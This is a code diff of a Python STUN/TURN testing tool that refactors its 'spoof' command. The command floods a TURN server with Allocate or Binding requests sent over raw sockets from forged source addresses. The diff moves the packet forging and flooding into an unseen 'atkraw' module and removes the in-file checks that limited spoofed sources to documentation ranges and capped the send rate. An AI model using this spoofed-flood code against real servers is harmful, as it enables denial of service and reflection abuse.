@@ -24,6 +24,8 @@ import sys
 import time
 import zlib
 
+import atkraw
+
 COOKIE = 0x2112A442
 ALLOCATE, REFRESH, SEND, CREATEPERM, CHANBIND, BINDING = 3, 4, 6, 8, 9, 1
 USERNAME, MI, ERRCODE, REALM, NONCE = 0x0006, 0x0008, 0x0009, 0x0014, 0x0015
@@ -410,63 +412,22 @@ def cmd_conns(a):
     for c in socks:
         c.close()
 
-DOC_NETS = ("192.0.2.", "198.51.100.", "203.0.113.")
-
-
-def spoof_sources(nets, hosts, count):
-    """count source transport addresses: the hosts LO-HI of each /24 in
-    nets (documentation ranges only), then more ports on each"""
-    lo, hi = (int(x) for x in hosts.split("-"))
-    ips = []
-    for net in nets:
-        pre = net.split("/")[0].rsplit(".", 1)[0] + "."
-        if pre not in DOC_NETS or not 1 <= lo <= hi <= 254:
-            sys.exit("spoof: only hosts 1-254 of 192.0.2.0/24, "
-                     "198.51.100.0/24 and 203.0.113.0/24")
-        ips += [pre + str(h) for h in range(lo, hi + 1)]
-    return [(ips[k % len(ips)], 1024 + k // len(ips))
-            for k in range(count)], len(ips)
-
-
-def raw_udp(src, sport, dst, dport, payload):
-    """an IPv4 header (the kernel fills in its checksum) and a UDP one
-    (checksum 0: none, RFC 768), then the payload"""
-    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0,
-                     64, 17, 0, socket.inet_aton(src),
-                     socket.inet_aton(dst))
-    return ip + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) \
-        + payload
-
-
 def cmd_spoof(a):
-    """Allocates or Bindings over a raw socket (IP_HDRINCL) from forged
-    sources toward the UDP listener, paced at --rate for --duration
-    (bounded: 10000/s, 15 s, 65536 sources); nothing is read back"""
-    rate, dur = min(a.rate, 10000), min(a.duration, 15.0)
-    srcs, nips = spoof_sources(a.nets, a.hosts, min(a.count, 65536))
+    """Allocates or Bindings over a raw socket from forged sources
+    toward the UDP listener, paced at --rate for --duration (atkraw.py
+    bounds both); nothing is read back"""
+    srcs, nips = atkraw.sources(a.src or "203.0.113.21-254,"
+                                "198.51.100.21-254,192.0.2.21-254", a.count)
     host, port = a.server.rsplit(":", 1)
-    port = int(port)
+    dst = (host, int(port))
     if a.kind == "binding":
         msg = [build(BINDING, []) for _ in srcs]
     else:
         msg = [build(ALLOCATE, [(REQTRANSPORT, b"\x11\0\0\0")])
                for _ in srcs]
-    pkts = [raw_udp(ip, sp, host, port, m) for (ip, sp), m in zip(srcs, msg)]
-    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    total, sent, failed = int(rate * dur), 0, 0
-    t0 = time.monotonic()
-    for i in range(total):
-        if i % 20 == 0:
-            late = t0 + i / rate - time.monotonic()
-            if late > 0:
-                time.sleep(late)
-        try:
-            s.sendto(pkts[i % len(pkts)], (host, 0))
-            sent += 1
-        except OSError:
-            failed += 1
-    el = time.monotonic() - t0
-    s.close()
+    pkts = [atkraw.udp(sa, dst, m) for sa, m in zip(srcs, msg)]
+    sent, failed, el = atkraw.flood(dst, lambda i: pkts[i % len(pkts)],
+                                    a.rate, a.duration)
     step("spoof", sent, "%s from %d sources on %d addresses in %.2f s "
          "(%.0f/s), %d not sent" % (a.kind, len(srcs), nips, el, sent / el,
                                     failed))
@@ -496,10 +457,6 @@ def main():
     ap.add_argument("--max", type=float, default=10)
     ap.add_argument("--kind", choices=["allocate", "binding"],
                     default="allocate")
-    ap.add_argument("--nets", nargs="*",
-                    default=["203.0.113.0/24", "198.51.100.0/24",
-                             "192.0.2.0/24"])
-    ap.add_argument("--hosts", default="21-254", help="LO-HI of each /24")
     ap.add_argument("--rate", type=int, default=10000)
     ap.add_argument("--duration", type=float, default=4)
     a = ap.parse_args()
